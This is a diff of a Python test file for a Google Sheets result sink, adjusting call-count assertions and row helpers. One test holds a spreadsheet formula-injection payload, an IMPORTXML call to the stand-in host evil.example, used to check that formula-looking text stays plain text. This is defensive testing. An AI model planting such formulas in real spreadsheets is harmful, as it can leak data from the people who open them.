@@ -10,7 +10,7 @@ from service.sheets.prepare import prepare_sheet
 from service.sheets.sink import SheetResultSink
 from tests.fakes.sheets_server import FakeClock, FakeSheetsServer
 from tests.sheets.conftest import companies
-from tests.sheets.helpers import NOW, done_row, failed_row, job, leased_row
+from tests.sheets.helpers import NOW, done_row, failed_row, job, leased_row, pending_row
 
 FIELDS = ["industry", "description"]
 
@@ -36,7 +36,8 @@ def test_many_rows_in_one_window_cost_one_search_and_one_write(
     assert server.calls["values.batchUpdate"] == writes_before  # still inside the window
     sink.close()
     assert server.calls["values.batchUpdate"] - writes_before == 1
-    assert server.calls["developerMetadata.search"] == 1
+    assert server.calls["developerMetadata.search"] == 1  # rows and columns found in one search
+    assert server.calls["values.batchGet"] == 2  # the submit's read, then the flush's one identity check
     row = _by_name(server)["Company 0123"]
     assert row["Rowscout status"] == "done" and row["Industry"] == "Industry of Company 0123"
     assert row["Researched at"] == NOW.isoformat(timespec="seconds")
@@ -47,7 +48,7 @@ def test_statuses_then_results_and_the_window(server: FakeSheetsServer, api: Goo
     prepared = _prepare(server, api, companies(3))
     keys = [r.key for r in prepared.table.records]
     sink = SheetResultSink(api, prepared.source, flush_interval=5.0, clock=clock)
-    sink.write_statuses(keys, "queued")
+    sink.write(job(), [pending_row(key, f"Company {i:04d}") for i, key in enumerate(keys)])
     sink.flush()
     assert [r["Rowscout status"] for r in _by_name(server).values()] == ["queued"] * 3
     sink.write(job(), [leased_row(keys[0], "Company 0000")])
@@ -64,7 +65,7 @@ def test_formula_looking_text_stays_text(server: FakeSheetsServer, api: GoogleSh
     key = prepared.table.records[0].key  # type: ignore[index]
     evil = '=IMPORTXML("http://evil.example","//a")'
     sink = SheetResultSink(api, prepared.source, clock=clock)
-    sink.write(job(), [done_row(key, "+cmd", description=evil)])
+    sink.write(job(), [done_row(key, "Company 0000", description=evil)])
     sink.close()
     assert prepared.source.layout is not None
     column = prepared.source.layout.columns["description"]
